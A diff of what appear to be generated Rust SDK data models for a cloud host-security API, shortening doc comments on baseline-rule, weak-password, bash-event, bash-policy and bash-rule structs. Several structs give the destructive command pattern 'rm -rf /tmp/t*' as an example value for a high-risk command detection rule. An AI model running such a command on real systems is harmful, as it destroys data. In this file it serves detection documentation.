-    /// Example: `30`
+    /// `RuleId`; example: `30`
     pub rule_id: i64,
 
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"等保三级-CentOS 7安全****"`
+    /// `RuleName`; example: `"等保三级-CentOS 7安全****"`
     pub rule_name: String,
 
-    /// `RuleDesc`: a string.
-    ///
-    /// Example: `"等保三级-CentOS 7安全****"`
+    /// `RuleDesc`; example: `"等保三级-CentOS 7安全****"`
     pub rule_desc: String,
 
-    /// `ItemCount`: a signed 64-bit integer.
-    ///
-    /// Example: `32`
+    /// `ItemCount`; example: `32`
     pub item_count: i64,
 
-    /// `HostCount`: a signed 64-bit integer.
-    ///
-    /// Example: `9`
+    /// `HostCount`; example: `9`
     pub host_count: i64,
 
-    /// `FirstTime`: a string.
-    ///
-    /// Example: `"2023-06-13 05:0****"`
+    /// `FirstTime`; example: `"2023-06-13 05:0****"`
     pub first_time: String,
 
-    /// `LastTime`: a string.
-    ///
-    /// Example: `"2024-10-24 23:4****"`
+    /// `LastTime`; example: `"2024-10-24 23:4****"`
     pub last_time: String,
 
-    /// `DetectStatus`: a signed 64-bit integer.
+    /// `DetectStatus`
     pub detect_status: i64,
 
-    /// `ItemIds`: a list of signed 64-bit integers.
-    ///
-    /// Example: `[3855]`
+    /// `ItemIds`; example: `[3855]`
     pub item_ids: Vec<i64>,
 }
 
@@ -3729,54 +2420,34 @@ pub struct BaselineRuleDetect {
 /// Returned in the output of [`DescribeBaselineRule`](super::DescribeBaselineRule).
 #[tc_model]
 pub struct BaselineRuleInfo {
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"确保已配置审核日志存储大小低危"`
+    /// `RuleName`; example: `"确保已配置审核日志存储大小低危"`
     pub rule_name: String,
 
-    /// `Description`: a string.
-    ///
-    /// Example: `"配置审核日志文件的最大大小。一旦日志达到最大大小，将对其进行轮换并启动新的日志文件。"`
+    /// `Description`; example: `"配置审核日志文件的最大大小。一旦日志达到最大大小，将对其进行轮换并启动新的日志文件。"`
     pub description: String,
 
-    /// `FixMessage`: a string.
-    ///
-    /// Example: `"根据站点策略设置/etc/audit/auditd.conf参数："`
+    /// `FixMessage`; example: `"根据站点策略设置/etc/audit/auditd.conf参数："`
     pub fix_message: String,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `3`
+    /// `Level`; example: `3`
     pub level: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `RuleId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1026`
+    /// `RuleId`; example: `1026`
     pub rule_id: u64,
 
-    /// `LastScanAt`: a string.
-    ///
-    /// Example: `"2024-11-04 09:57:28"`
+    /// `LastScanAt`; example: `"2024-11-04 09:57:28"`
     pub last_scan_at: String,
 
-    /// `RuleRemark`: a string.
-    ///
-    /// Example: `"日志remark"`
+    /// `RuleRemark`; example: `"日志remark"`
     pub rule_remark: String,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"df131b24-8528-4809-9d07-a9e4d58ad566"`
+    /// `Uuid`; example: `"df131b24-8528-4809-9d07-a9e4d58ad566"`
     pub uuid: String,
 
-    /// `EventId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `3634`
+    /// `EventId`; example: `3634`
     pub event_id: u64,
 }
 
@@ -3785,24 +2456,16 @@ pub struct BaselineRuleInfo {
 /// Returned in the output of [`DescribeBaselineTop`](super::DescribeBaselineTop).
 #[tc_model]
 pub struct BaselineRuleTopInfo {
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"弱口令"`
+    /// `RuleName`; example: `"弱口令"`
     pub rule_name: String,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `EventCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `EventCount`; example: `0`
     pub event_count: u64,
 
-    /// `RuleId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `20`
+    /// `RuleId`; example: `20`
     pub rule_id: u64,
 }
 
@@ -3812,26 +2475,16 @@ pub struct BaselineRuleTopInfo {
 /// Returned in the output of [`DescribeBaselineWeakPasswordList`](super::DescribeBaselineWeakPasswordList).
 #[tc_model]
 pub struct BaselineWeakPassword {
-    /// `PasswordId`: a signed 64-bit integer.
-    ///
-    /// Example: `1002`
+    /// `PasswordId`; example: `1002`
     pub password_id: i64,
 
-    /// `WeakPassword`: a string.
-    ///
-    /// Example: `"passwd-01"`
+    /// `WeakPassword`; example: `"passwd-01"`
     pub weak_password: String,
 
-    /// `CreateTime`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"2006-01-02 15:04:05"`
+    /// `CreateTime`, always sent in responses; example: `"2006-01-02 15:04:05"`
     pub create_time: Option<String>,
 
-    /// `ModifyTime`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"2006-01-02 15:04:05"`
+    /// `ModifyTime`, always sent in responses; example: `"2006-01-02 15:04:05"`
     pub modify_time: Option<String>,
 }
 
@@ -3840,104 +2493,64 @@ pub struct BaselineWeakPassword {
 /// Returned in the output of [`DescribeBashEvents`](super::DescribeBashEvents).
 #[tc_model]
 pub struct BashEvent {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
+    /// `Uuid`; example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
+    /// `Quuid`; example: `"380add75-bb06-4cc4-84c5-cf806d102fba"`
     pub quuid: String,
 
-    /// `Hostip`: a string.
-    ///
-    /// Example: `"127.0.0.1"`
+    /// `Hostip`; example: `"127.0.0.1"`
     pub hostip: String,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"root"`
+    /// `User`; example: `"root"`
     pub user: String,
 
-    /// `Platform`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Platform`; example: `1`
     pub platform: u64,
 
-    /// `BashCmd`: a string.
-    ///
-    /// Example: `"rm"`
+    /// `BashCmd`; example: `"rm"`
     pub bash_cmd: String,
 
-    /// `RuleId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RuleId`; example: `1`
     pub rule_id: u64,
 
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"1"`
+    /// `RuleName`; example: `"1"`
     pub rule_name: String,
 
-    /// `RuleLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RuleLevel`; example: `1`
     pub rule_level: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `CreateTime`; example: `"2021-03-30 19:17:28"`
     pub create_time: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"主机"`
+    /// `MachineName`; example: `"主机"`
     pub machine_name: String,
 
-    /// `DetectBy`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `DetectBy`; example: `1`
     pub detect_by: u64,
 
-    /// `Pid`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Pid`; example: `"1"`
     pub pid: String,
 
-    /// `Exe`: a string.
-    ///
-    /// Example: `"1.exe"`
+    /// `Exe`; example: `"1.exe"`
     pub exe: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `ModifyTime`; example: `"2021-03-30 19:17:28"`
     pub modify_time: String,
 
-    /// `RuleCategory`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `RuleCategory`; example: `0`
     pub rule_category: u64,
 
-    /// `RegexBashCmd`: a string.
-    ///
-    /// Example: `"rm -rf /tmp/t*"`
+    /// `RegexBashCmd`; example: `"rm -rf /tmp/t*"`
     pub regex_bash_cmd: String,
 
-    /// `HostName`: a string.
-    ///
-    /// Example: `"ins-sagf***"`
+    /// `HostName`; example: `"ins-sagf***"`
     pub host_name: Option<String>,
 }
 
@@ -3946,127 +2559,79 @@ pub struct BashEvent {
 /// Returned in the output of [`DescribeBashEventsNew`](super::DescribeBashEventsNew).
 #[tc_model]
 pub struct BashEventNew {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"dadada"`
+    /// `Uuid`; example: `"dadada"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"dadasda"`
+    /// `Quuid`; example: `"dadasda"`
     pub quuid: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"127.0.0.1"`
+    /// `HostIp`; example: `"127.0.0.1"`
     pub host_ip: String,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"root"`
+    /// `User`; example: `"root"`
     pub user: String,
 
-    /// `Platform`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Platform`; example: `1`
     pub platform: u64,
 
-    /// `BashCmd`: a string.
-    ///
-    /// Example: `"rm"`
+    /// `BashCmd`; example: `"rm"`
     pub bash_cmd: String,
 
-    /// `RuleId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RuleId`; example: `1`
     pub rule_id: u64,
 
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"1"`
+    /// `RuleName`; example: `"1"`
     pub rule_name: String,
 
-    /// `RuleLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RuleLevel`; example: `1`
     pub rule_level: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `CreateTime`; example: `"2021-03-30 19:17:28"`
     pub create_time: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"主机"`
+    /// `MachineName`; example: `"主机"`
     pub machine_name: String,
 
-    /// `DetectBy`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `DetectBy`; example: `1`
     pub detect_by: u64,
 
-    /// `Pid`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Pid`; example: `"1"`
     pub pid: String,
 
-    /// `Exe`: a string.
-    ///
-    /// Example: `"1.exe"`
+    /// `Exe`; example: `"1.exe"`
     pub exe: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `ModifyTime`; example: `"2021-03-30 19:17:28"`
     pub modify_time: String,
 
-    /// `RuleCategory`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `RuleCategory`; example: `0`
     pub rule_category: u64,
 
-    /// `RegexBashCmd`: a string.
-    ///
-    /// Example: `"rm -rf /tmp/t*"`
+    /// `RegexBashCmd`; example: `"rm -rf /tmp/t*"`
     pub regex_bash_cmd: String,
 
-    /// `RegexExe`: a string.
-    ///
-    /// Example: `"/usr/sbin/tail"`
+    /// `RegexExe`; example: `"/usr/sbin/tail"`
     pub regex_exe: Option<String>,
 
-    /// `MachineType`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `MachineType`; example: `1`
     pub machine_type: i64,
 
-    /// `MachineExtraInfo`: a [`MachineExtraInfo`].
+    /// `MachineExtraInfo`
     pub machine_extra_info: Option<MachineExtraInfo>,
 
-    /// `EventCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `23`
+    /// `EventCount`; example: `23`
     pub event_count: Option<u64>,
 
-    /// `FirstDetectTime`: a string.
-    ///
-    /// Example: `"2026-10-15 22:49:05"`
+    /// `FirstDetectTime`; example: `"2026-10-15 22:49:05"`
     pub first_detect_time: Option<String>,
 
-    /// `LatestDetectTime`: a string.
-    ///
-    /// Example: `"2026-10-15 22:49:05"`
+    /// `LatestDetectTime`; example: `"2026-10-15 22:49:05"`
     pub latest_detect_time: Option<String>,
 }
 
@@ -4075,134 +2640,82 @@ pub struct BashEventNew {
 /// Returned in the output of [`DescribeBashEventsInfo`](super::DescribeBashEventsInfo).
 #[tc_model]
 pub struct BashEventsInfo {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1001`
+    /// `Id`; example: `1001`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"127.0.0.1"`
+    /// `HostIp`; example: `"127.0.0.1"`
     pub host_ip: String,
 
-    /// `Platform`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Platform`; example: `1`
     pub platform: u64,
 
-    /// `BashCmd`: a string.
-    ///
-    /// Example: `"rm"`
+    /// `BashCmd`; example: `"rm"`
     pub bash_cmd: String,
 
-    /// `RuleId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RuleId`; example: `1`
     pub rule_id: u64,
 
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"1"`
+    /// `RuleName`; example: `"1"`
     pub rule_name: String,
 
-    /// `RuleLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RuleLevel`; example: `1`
     pub rule_level: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `CreateTime`; example: `"2021-03-30 19:17:28"`
     pub create_time: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"主机"`
+    /// `MachineName`; example: `"主机"`
     pub machine_name: String,
 
-    /// `Exe`: a string.
-    ///
-    /// Example: `"1.exe"`
+    /// `Exe`; example: `"1.exe"`
     pub exe: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `ModifyTime`; example: `"2021-03-30 19:17:28"`
     pub modify_time: String,
 
-    /// `RuleCategory`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `RuleCategory`; example: `0`
     pub rule_category: u64,
 
-    /// `RegexBashCmd`: a string.
-    ///
-    /// Example: `"rm -rf /tmp/t*"`
+    /// `RegexBashCmd`; example: `"rm -rf /tmp/t*"`
     pub regex_bash_cmd: String,
 
-    /// `PsTree`: a string.
-    ///
-    /// Example: `"\"[{\"pid\":134,\"exe\":\"/usr/bin/bash\",\"account\":\"root:root\",\"cmdl\""`
+    /// `PsTree`; example: `"\"[{\"pid\":134,\"exe\":\"/usr/bin/bash\",\"account\":\"root:root\",\"cmdl\""`
     pub ps_tree: String,
 
-    /// `SuggestScheme`: a string.
-    ///
-    /// Example: `"建议方案"`
+    /// `SuggestScheme`; example: `"建议方案"`
     pub suggest_scheme: String,
 
-    /// `HarmDescribe`: a string.
-    ///
-    /// Example: `"desc of event"`
+    /// `HarmDescribe`; example: `"desc of event"`
     pub harm_describe: String,
 
-    /// `Tags`: a list of strings.
-    ///
-    /// Example: `["标签1","标签2"]`
+    /// `Tags`; example: `["标签1","标签2"]`
     pub tags: Vec<String>,
 
-    /// `References`: a list of strings.
-    ///
-    /// Example: `["http://www.tencent.com"]`
+    /// `References`; example: `["http://www.tencent.com"]`
     pub references: Vec<String>,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"124.2.4.55"`
+    /// `MachineWanIp`; example: `"124.2.4.55"`
     pub machine_wan_ip: String,
 
-    /// `MachineStatus`: a string.
-    ///
-    /// Example: `"ONLINE"`
+    /// `MachineStatus`; example: `"ONLINE"`
     pub machine_status: String,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"root"`
+    /// `User`; example: `"root"`
     pub user: String,
 
-    /// `Pid`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Pid`; example: `"1"`
     pub pid: String,
 
-    /// `DetectBy`: a string.
-    ///
-    /// Example: `"agent"`
+    /// `DetectBy`; example: `"agent"`
     pub detect_by: Option<String>,
 }
 
@@ -4211,209 +2724,127 @@ pub struct BashEventsInfo {
 /// Returned in the output of [`DescribeBashEventsInfoNew`](super::DescribeBashEventsInfoNew).
 #[tc_model]
 pub struct BashEventsInfoNew {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Id`; example: `1`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Uuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub uuid: String,
 
-    /// `Quuid`: a string.
-    ///
-    /// Example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
+    /// `Quuid`; example: `"acdd5474-6360-4fd4-bfc7-843162cb8116"`
     pub quuid: String,
 
-    /// `HostIp`: a string.
-    ///
-    /// Example: `"127.0.0.1"`
+    /// `HostIp`; example: `"127.0.0.1"`
     pub host_ip: String,
 
-    /// `Platform`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Platform`; example: `1`
     pub platform: u64,
 
-    /// `BashCmd`: a string.
-    ///
-    /// Example: `"rm"`
+    /// `BashCmd`; example: `"rm"`
     pub bash_cmd: String,
 
-    /// `RuleId`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RuleId`; example: `1`
     pub rule_id: u64,
 
-    /// `RuleName`: a string.
-    ///
-    /// Example: `"1"`
+    /// `RuleName`; example: `"1"`
     pub rule_name: String,
 
-    /// `RuleLevel`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `RuleLevel`; example: `1`
     pub rule_level: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Status`; example: `1`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `CreateTime`; example: `"2021-03-30 19:17:28"`
     pub create_time: String,
 
-    /// `MachineName`: a string.
-    ///
-    /// Example: `"主机"`
+    /// `MachineName`; example: `"主机"`
     pub machine_name: String,
 
-    /// `Exe`: a string.
-    ///
-    /// Example: `"1.exe"`
+    /// `Exe`; example: `"1.exe"`
     pub exe: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `ModifyTime`; example: `"2021-03-30 19:17:28"`
     pub modify_time: String,
 
-    /// `RuleCategory`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `RuleCategory`; example: `0`
     pub rule_category: u64,
 
-    /// `RegexBashCmd`: a string.
-    ///
-    /// Example: `"rm -rf /tmp/t*"`
+    /// `RegexBashCmd`; example: `"rm -rf /tmp/t*"`
     pub regex_bash_cmd: String,
 
-    /// `PsTree`: a string.
-    ///
-    /// Example: `"\"[{\"pid\":134,\"exe\":\"/usr/bin/bash\",\"account\":\"root:root\",\"cmdl\""`
+    /// `PsTree`; example: `"\"[{\"pid\":134,\"exe\":\"/usr/bin/bash\",\"account\":\"root:root\",\"cmdl\""`
     pub ps_tree: String,
 
-    /// `SuggestScheme`: a string.
-    ///
-    /// Example: `"建议方案"`
+    /// `SuggestScheme`; example: `"建议方案"`
     pub suggest_scheme: String,
 
-    /// `HarmDescribe`: a string.
-    ///
-    /// Example: `"desc of event"`
+    /// `HarmDescribe`; example: `"desc of event"`
     pub harm_describe: String,
 
-    /// `Tags`: a list of strings.
-    ///
-    /// Example: `["标签1","标签2"]`
+    /// `Tags`; example: `["标签1","标签2"]`
     pub tags: Vec<String>,
 
-    /// `References`: a list of strings.
-    ///
-    /// Example: `["http://www.tencent.com"]`
+    /// `References`; example: `["http://www.tencent.com"]`
     pub references: Vec<String>,
 
-    /// `MachineWanIp`: a string.
-    ///
-    /// Example: `"124.2.4.55"`
+    /// `MachineWanIp`; example: `"124.2.4.55"`
     pub machine_wan_ip: String,
 
-    /// `MachineStatus`: a string.
-    ///
-    /// Example: `"ONLINE"`
+    /// `MachineStatus`; example: `"ONLINE"`
     pub machine_status: String,
 
-    /// `User`: a string.
-    ///
-    /// Example: `"user1"`
+    /// `User`; example: `"user1"`
     pub user: String,
 
-    /// `Pid`: a string.
-    ///
-    /// Example: `"1"`
+    /// `Pid`; example: `"1"`
     pub pid: String,
 
-    /// `MachineType`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `MachineType`; example: `1`
     pub machine_type: i64,
 
-    /// `DetectBy`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `DetectBy`; example: `0`
     pub detect_by: i64,
 
-    /// `BashCmdDecoded`: a string.
-    ///
-    /// Example: `"rm"`
+    /// `BashCmdDecoded`; example: `"rm"`
     pub bash_cmd_decoded: Option<String>,
 
-    /// `EventCount`: an unsigned 64-bit integer.
-    ///
-    /// Example: `23`
+    /// `EventCount`; example: `23`
     pub event_count: Option<u64>,
 
-    /// `FirstDetectTime`: a string.
-    ///
-    /// Example: `"2026-10-15 22:49:05"`
+    /// `FirstDetectTime`; example: `"2026-10-15 22:49:05"`
     pub first_detect_time: Option<String>,
 
-    /// `LatestDetectTime`: a string.
-    ///
-    /// Example: `"2026-10-15 22:49:05"`
+    /// `LatestDetectTime`; example: `"2026-10-15 22:49:05"`
     pub latest_detect_time: Option<String>,
 
-    /// `FileProcessMd5`: a string.
-    ///
-    /// Example: `"426a28893903a85988f50f3f03b1a1c6"`
+    /// `FileProcessMd5`; example: `"426a28893903a85988f50f3f03b1a1c6"`
     pub file_process_md5: Option<String>,
 
-    /// `FileAction`: a string.
-    ///
-    /// Example: `"write"`
+    /// `FileAction`; example: `"write"`
     pub file_action: Option<String>,
 
-    /// `FilePath`: a string.
-    ///
-    /// Example: `"/root/.bash_history"`
+    /// `FilePath`; example: `"/root/.bash_history"`
     pub file_path: Option<String>,
 
-    /// `FileMd5`: a string.
-    ///
-    /// Example: `"426a28893903a85988f50f3f03b1a1c5"`
+    /// `FileMd5`; example: `"426a28893903a85988f50f3f03b1a1c5"`
     pub file_md5: Option<String>,
 
-    /// `FileName`: a string.
-    ///
-    /// Example: `".bash_history"`
+    /// `FileName`; example: `".bash_history"`
     pub file_name: Option<String>,
 
-    /// `FileSize`: a string.
-    ///
-    /// Example: `"10240"`
+    /// `FileSize`; example: `"10240"`
     pub file_size: Option<String>,
 
-    /// `FileModifyTime`: a string.
-    ///
-    /// Example: `"2026-10-15 22:49:05"`
+    /// `FileModifyTime`; example: `"2026-10-15 22:49:05"`
     pub file_modify_time: Option<String>,
 
-    /// `FilePermission`: a string.
-    ///
-    /// Example: `"-rw-r--r--"`
+    /// `FilePermission`; example: `"-rw-r--r--"`
     pub file_permission: Option<String>,
 
-    /// `FileAccessTime`: a string.
-    ///
-    /// Example: `"2026-10-15 22:49:05"`
+    /// `FileAccessTime`; example: `"2026-10-15 22:49:05"`
     pub file_access_time: Option<String>,
 
-    /// `BashType`: a string.
-    ///
-    /// Example: `"filemon"`
+    /// `BashType`; example: `"filemon"`
     pub bash_type: Option<String>,
 }
 
@@ -4423,101 +2854,58 @@ pub struct BashEventsInfoNew {
 /// Returned in the output of [`DescribeBashPolicies`](super::DescribeBashPolicies).
 #[tc_model]
 pub struct BashPolicy {
-    /// `Name`: a string.
-    ///
-    /// Example: `"policy"`
+    /// `Name`; example: `"policy"`
     pub name: String,
 
-    /// `Enable`: a signed 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Enable`; example: `0`
     pub enable: i64,
 
-    /// `White`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `White`; example: `1`
     pub white: i64,
 
-    /// `BashAction`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `BashAction`; example: `1`
     pub bash_action: i64,
 
-    /// `Rule`: a string.
-    ///
-    /// Example: `"rule-reg-*"`
+    /// `Rule`; example: `"rule-reg-*"`
     pub rule: String,
 
-    /// `Level`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: i64,
 
-    /// `Scope`: a signed 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Scope`; example: `1`
     pub scope: i64,
 
-    /// `Id`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1`
+    /// `Id`, always sent in responses; example: `1`
     pub id: Option<i64>,
 
-    /// `Descript`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"系统规则(标准)"`
+    /// `Descript`, always sent in responses; example: `"系统规则(标准)"`
     pub descript: Option<String>,
 
-    /// `EventId`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1`
+    /// `EventId`, always sent in responses; example: `1`
     pub event_id: Option<i64>,
 
-    /// `DealOldEvents`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1`
+    /// `DealOldEvents`, always sent in responses; example: `1`
     pub deal_old_events: Option<i64>,
 
-    /// `Quuids`: a list of strings.
-    /// Always sent in responses.
-    ///
-    /// Example: `["8ee92bec-54c2-42be-96da-a3cf8a4c9df3"]`
+    /// `Quuids`, always sent in responses; example: `["8ee92bec-54c2-42be-96da-a3cf8a4c9df3"]`
     pub quuids: Option<Vec<String>>,
 
-    /// `Category`: a signed 64-bit integer.
-    /// Always sent in responses.
-    ///
-    /// Example: `1`
+    /// `Category`, always sent in responses; example: `1`
     pub category: Option<i64>,
 
-    /// `CreateTime`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"2020-12-12 00:00:00"`
+    /// `CreateTime`, always sent in responses; example: `"2020-12-12 00:00:00"`
     pub create_time: Option<String>,
 
-    /// `ModifyTime`: a string.
-    /// Always sent in responses.
-    ///
-    /// Example: `"2020-12-12 00:00:00"`
+    /// `ModifyTime`, always sent in responses; example: `"2020-12-12 00:00:00"`
     pub modify_time: Option<String>,
 
-    /// `Uuids`: a list of strings.
-    /// Always sent in responses.
-    ///
-    /// Example: `["8ee92bec-54c2-42be-96da-a3cf8a4c9df3"]`
+    /// `Uuids`, always sent in responses; example: `["8ee92bec-54c2-42be-96da-a3cf8a4c9df3"]`
     pub uuids: Option<Vec<String>>,
 
-    /// `Rules`: a [`PolicyRules`].
+    /// `Rules`
     pub rules: Option<PolicyRules>,
 
-    /// `MatchType`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `MatchType`; example: `1`
     pub match_type: Option<u64>,
 }
 
@@ -4526,87 +2914,55 @@ pub struct BashPolicy {
 /// Returned in the output of [`DescribeBashRules`](super::DescribeBashRules).
 #[tc_model]
 pub struct BashRule {
-    /// `Id`: an unsigned 64-bit integer.
-    ///
-    /// Example: `10003`
+    /// `Id`; example: `10003`
     pub id: u64,
 
-    /// `Uuid`: a string.
-    ///
-    /// Example: `"451f36cf-ac23-4635-bb96-23cd721b4b25"`
+    /// `Uuid`; example: `"451f36cf-ac23-4635-bb96-23cd721b4b25"`
     pub uuid: String,
 
-    /// `Name`: a string.
-    ///
-    /// Example: `"规则"`
+    /// `Name`; example: `"规则"`
     pub name: String,
 
-    /// `Level`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `Level`; example: `1`
     pub level: u64,
 
-    /// `Rule`: a string.
-    ///
-    /// Example: `"vim"`
+    /// `Rule`; example: `"vim"`
     pub rule: String,
 
-    /// `Decription`: a string.
-    ///
-    /// Example: `"描述"`
+    /// `Decription`; example: `"描述"`
     #[deprecated(
         note = "disabled in the spec: the service may ignore it or stop sending it"
     )]
     pub decription: Option<String>,
 
-    /// `Operator`: a string.
-    ///
-    /// Example: `"admin"`
+    /// `Operator`; example: `"admin"`
     pub operator: String,
 
-    /// `IsGlobal`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `IsGlobal`; example: `0`
     pub is_global: u64,
 
-    /// `Status`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `Status`; example: `0`
     pub status: u64,
 
-    /// `CreateTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `CreateTime`; example: `"2021-03-30 19:17:28"`
     pub create_time: String,
 
-    /// `ModifyTime`: a string.
-    ///
-    /// Example: `"2021-03-30 19:17:28"`
+    /// `ModifyTime`; example: `"2021-03-30 19:17:28"`
     pub modify_time: String,
 
-    /// `Hostip`: a string.
-    ///
-    /// Example: `"172.27.16.14"`
+    /// `Hostip`; example: `"172.27.16.14"`
     pub hostip: String,
 
-    /// `Uuids`: a list of strings.
-    ///
-    /// Example: `["451f36cf-ac23-4635-bb96-23cd721b4b25"]`
+    /// `Uuids`; example: `["451f36cf-ac23-4635-bb96-23cd721b4b25"]`
     pub uuids: Vec<String>,
 
-    /// `White`: an unsigned 64-bit integer.
-    ///
-    /// Example: `1`
+    /// `White`; example: `1`
     pub white: u64,
 
-    /// `DealOldEvents`: an unsigned 64-bit integer.
-    ///
-    /// Example: `0`
+    /// `DealOldEvents`; example: `0`
     pub deal_old_events: u64,
 
-    /// `Description`: a string.
-    ///
-    /// Example: `"desc of rule"`
+    /// `Description`; example: `"desc of rule"`
     pub description: Option<String>,
 }
 
@@ -4615,39 +2971,25 @@ pub struct BashRule {
